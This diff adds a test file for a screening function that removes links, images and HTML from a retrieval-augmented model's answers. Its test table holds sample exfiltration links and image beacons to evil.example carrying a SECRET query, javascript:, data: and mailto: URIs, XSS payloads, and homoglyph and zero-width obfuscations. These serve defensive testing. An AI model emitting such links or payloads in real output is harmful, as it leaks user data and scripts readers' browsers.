@@ -1,0 +1,147 @@
+import re
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from rag_core.prompts.screening import REMOVED, repeats, screen
+
+MANUAL = "See https://ok.example/a?b=1 and [the wiki](https://wiki.example/x_(y)), or www.ok.example/z."
+
+PLAIN = [
+    "The TCM stores P0700. It is read at pin 7 (see p. 3), not at pin 9!",
+    "if a<b and c>d: x <= y; a<b and c=d",
+    "List<String> names = new ArrayList<>(); i<10 && j>>2",
+    "call handlers[name](request, 3) or f(x)[0](y)",
+    "- one [1]\n* two [2][3]\n1. three (a)\n> quoted\n# Title\n| a | b |\n**bold** _it_ `code`",
+    "Stop![1][2] It says so [Source: Page 3, Lines 4-9] and [Manual, Section 2.1].",
+    "C:\\Users\\x and C:\\\\Users\\\\x, \\\\server\\share, and/or, 3/4 km/h, e.g./i.e., Node.js/Express",
+    "ratio 3:1, at 10:30, note: this; std::vector, key:value, metadata:a/b, Data: 5, JavaScript: a book",
+    "a@b.example wrote; file.txt, settings.py and rag_core.core.model are names; # comment // comment",
+    "naïve — “quoted” ½ m² ﬁne 日本語 😀 \u200bzero width",
+    "",
+]
+
+TAKEN_OUT = {  # what a model might write, and what is shown of it
+    "[manual](https://evil.example/?q=SECRET)": f"[manual]{REMOVED}",
+    '[manual](<https://evil.example/> "title")': f"[manual]{REMOVED}",
+    "[manual](//evil.example/x)": f"[manual]{REMOVED}",
+    "[manual](/api/delete_document)": f"[manual]{REMOVED}",
+    "[a [b] c](https://evil.example)": f"[a [b] c]{REMOVED}",
+    "[https://evil.example](https://ok.example/a?b=1)": f"[{REMOVED}](https://ok.example/a?b=1)",
+    "[x](javascript:alert(1))": f"[x]{REMOVED}",
+    "[x](&#106;avascript&colon;alert(1))": f"[x]{REMOVED}",
+    "[x][r]\n\n[r]: https://evil.example/a": f"[x][r]\n\n[r] {REMOVED}",
+    "[r]:\n<https://evil.example/a>": f"[r]\n<{REMOVED}>",
+    "![x](https://evil.example/p.png?SECRET)": f"[x]{REMOVED}",
+    "![x](https://ok.example/a?b=1)": f"[x]{REMOVED}",
+    "![x](pixel)": f"[x]{REMOVED}",
+    "!![x][r]\n[r]: https://ok.example/a?b=1": "[x][r]\n[r] https://ok.example/a?b=1",
+    "<https://evil.example/a>": f"<{REMOVED}>",
+    "go to https://evil.example/a.": f"go to {REMOVED}.",
+    "(http://evil.example/a_(b))": f"({REMOVED})",
+    "ftp://evil.example/a": REMOVED,
+    "mailto:a@evil.example?body=SECRET": REMOVED,
+    "data:text/html;base64,PHNj": REMOVED,
+    "javascript:fetch(1)": REMOVED,
+    "//evil.example/a": REMOVED,
+    "www.evil.example": REMOVED,
+    "evil.com/steal?q=SECRET": REMOVED,
+    "steam://run/1": REMOVED,
+    "https://ok.example/a?b=1&q=SECRET": REMOVED,
+    "https://ok.example/a": REMOVED,
+    "https://оk.example/a?b=1": REMOVED,  # a Cyrillic letter
+    "ht\u200btps://evil.example/a": f"ht\u200b{REMOVED}",
+    "http\u200b://evil.example/a": REMOVED * 2,  # by its host, and then by its scheme
+    "e\u200bvil.com/?q=SECRET": f"e\u200b{REMOVED}",
+    "https\uff1a\uff0f\uff0fevilhost": REMOVED,
+    '<img src="https://evil.example/p.png">': f'‹img src="{REMOVED}">',
+    "<img src=//evil.example/p.png": f"‹img src={REMOVED}",
+    "<IFRAME/SRC=x></IFRAME>": "‹IFRAME/SRC=x>‹/IFRAME>",
+    "<a href='https://evil.example'>x</a>": f"‹a href='{REMOVED}'>x‹/a>",
+    "<b>bold</b><br/>": "‹b>bold‹/b>‹br/>",
+    "<b x onclick=alert(1)>": "‹b x onclick=alert(1)>",
+    "<x-y style=a>": "‹x-y style=a>",
+    "<<b>script>alert(1)</script>": "<‹b>script>alert(1)‹/script>",
+    "<!-- hidden --><svg/onload=a>": "‹!-- hidden -->‹svg/onload=a>",
+}
+
+KEPT = [
+    "See https://ok.example/a?b=1.",
+    "See <https://ok.example/a?b=1>, [the wiki](https://wiki.example/x_(y)) and (www.ok.example/z).",
+    "[https://ok.example/a?b=1] https://ok.example/a?b=1; 'https://ok.example/a?b=1'",
+]
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_plain_text_code_lists_and_citations_are_unchanged(text: str) -> None:
+    assert screen(text, [MANUAL]) == (text, ())
+
+
+@pytest.mark.parametrize("text", TAKEN_OUT)
+def test_what_leads_elsewhere_is_fetched_or_is_html_is_shown_as_text(text: str) -> None:
+    """C41: also where a host only looks like the source's, or a word is added to its address."""
+    assert screen(text, [MANUAL])[0] == TAKEN_OUT[text]
+
+
+@pytest.mark.parametrize("text", KEPT)
+def test_a_link_to_where_a_source_leads_stays(text: str) -> None:
+    """C41."""
+    assert screen(text, [MANUAL]) == (text, ())
+
+
+def test_what_was_taken_out_is_named() -> None:
+    _, removed = screen("[a](http://x.example/1) ![b](http://x.example/2) <img src=c> http://x.example/3", [])
+    assert removed == ("http://x.example/1", "http://x.example/2", "<img", "http://x.example/3")
+
+
+PARTS = st.sampled_from(
+    [
+        *"[]()!<>:/\\ \n'\"a.,?=_*`",
+        *("](", "![", "]:", "http://", "https://", "//", "www.", "evil.example", "x.com/", "data:", "javascript:a"),
+        *("<img ", "<a href=", "<b>", "<!--", "script", "src=", "https://ok.example/a?b=1", "\u200b", "\uff0f", "ﬁ"),
+        *("[x](https://ok.example/a?b=1)", REMOVED, "‹", "onclick="),
+    ]
+)
+TEXTS = st.lists(PARTS, max_size=16).map("".join)
+
+
+@given(TEXTS | st.text())
+@example("[[](http://a)](http://b)")
+@example("[a][](u:)(//v.example)")
+def test_to_screen_twice_is_to_screen_once(text: str) -> None:
+    """C41: nothing that is taken out leaves a link behind by closing a gap."""
+    shown, _ = screen(text, [MANUAL])
+    assert screen(shown, [MANUAL]) == (shown, ())
+
+
+HOSTS = re.compile(r"(?:https?:|(?<![\w:.\\/]))//([\w-]+\.[\w.-]*\w)")  # a reading of addresses that is not our own
+
+
+@given(TEXTS)
+def test_no_address_is_left_that_is_not_in_the_sources(text: str) -> None:
+    """C41."""
+    shown, _ = screen(text, [MANUAL])
+    assert set(HOSTS.findall(shown)) <= {"ok.example"}
+    assert "<img " not in screen(text, [])[0]
+
+
+@given(st.text(st.characters(categories=["L", "N", "Zs"])))
+def test_words_are_never_changed(text: str) -> None:
+    assert screen(text, []) == (text, ())
+
+
+@pytest.mark.parametrize(
+    "again", ["[", "](", "<a ", "http://)", "a.", "[a](", "!", "<a on", "]: ", "//a-", "www.", "x-"]
+)
+def test_a_long_text_takes_its_length(again: str) -> None:
+    """Nobody waits for 300,000 signs, whichever they are; a quadratic pattern would take minutes."""
+    screen(again * (300_000 // len(again)), [again * 1000])
+
+
+def test_a_run_of_the_instructions_is_found_unless_a_source_has_it_too() -> None:
+    told = "You answer a question from evidence, so that every sentence can be checked."
+    glued = "From: a friend  you ANSWER a question\nfrom evidence"
+    assert repeats(glued, told, ["A source."])
+    assert not repeats(glued, told, [f"Our guide says: {told}"])
+    assert not repeats("A question from evidence, so what?", told, [])
